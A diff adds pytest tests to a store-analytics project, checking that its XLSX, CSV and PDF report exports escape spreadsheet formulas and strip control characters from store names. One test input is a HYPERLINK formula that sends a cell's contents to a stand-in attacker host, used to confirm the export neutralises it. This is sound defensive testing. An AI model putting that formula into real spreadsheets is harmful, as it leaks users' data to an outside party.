@@ -9,10 +9,12 @@ from datetime import date, datetime, time, timedelta
 import openpyxl
 import pypdf
 import pytest
+from sqlalchemy import update
 
-from shopflow.reports.exports import export_hourly_csv, export_hourly_xlsx, slug
+from shopflow.reports.exports import export_hourly_csv, export_hourly_xlsx, safe_text, slug
 from shopflow.reports.pdf import daily_report_pdf
 from shopflow.storage.db import Database
+from shopflow.storage.models import StoreRow
 from shopflow.storage.records import ZoneConfig
 
 from .helpers import SAO_PAULO, SHELF, TILL, entry, exit_, local, make_store, stay, write
@@ -143,3 +145,63 @@ def test_pdf_in_english_continues_a_long_zone_table_on_more_pages(database: Data
 )
 def test_slug(name: str, expected: str) -> None:
     assert slug(name) == expected
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Abrir")'
+
+
+def _legacy_store_name(database: Database, store_id: int, name: str) -> None:
+    """A name stored before names were checked (the API and the repository refuse control characters now)."""
+    with database.session() as session:
+        session.execute(update(StoreRow).where(StoreRow.id == store_id).values(name=name))
+
+
+def test_xlsx_text_cells_are_never_formulas(database: Database) -> None:
+    store, (camera,) = make_store(database, name=FORMULA_NAME)
+    write(database, camera.id, [entry(at(9))])
+    with database.session() as session:
+        export = export_hourly_xlsx(session, store.id, DAY, DAY, camera_id=camera.id)
+    workbook = openpyxl.load_workbook(io.BytesIO(export.content))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    summary = {row[0].value: row[1].value for row in workbook["Resumo"].iter_rows()}
+    assert summary["Loja"] == "'" + FORMULA_NAME
+
+
+def test_xlsx_and_pdf_survive_control_characters_in_a_stored_name(database: Database, store_id: int) -> None:
+    _legacy_store_name(database, store_id, "Loja\x01\x0b São\x1f João")
+    with database.session() as session:
+        xlsx = export_hourly_xlsx(session, store_id, DAY, DAY)
+        csv_export = export_hourly_csv(session, store_id, DAY, DAY)
+    summary = {
+        row[0].value: row[1].value for row in openpyxl.load_workbook(io.BytesIO(xlsx.content))["Resumo"].iter_rows()
+    }
+    assert summary["Loja"] == "Loja São João"
+    assert read_csv(csv_export.content, ";")[1][3] == "0"
+
+
+def test_pdf_with_dollar_signs_in_the_names(database: Database) -> None:
+    store, (camera,) = make_store(database, name="Loja $$ 100% $x^2$")
+    write(database, camera.id, [entry(at(9))])
+    with database.session() as session:
+        report = daily_report_pdf(session, store.id, DAY, camera_id=camera.id, now=at(23))
+    _, text = pdf_text(report.content)
+    assert "Loja $$ 100% $x^2$" in text
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+55 11 9999", "'+55 11 9999"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Loja = Centro", "Loja = Centro"),
+        ("Loja\x00\x07Centro", "LojaCentro"),
+        ("", ""),
+    ],
+)
+def test_safe_text(text: str, expected: str) -> None:
+    assert safe_text(text) == expected
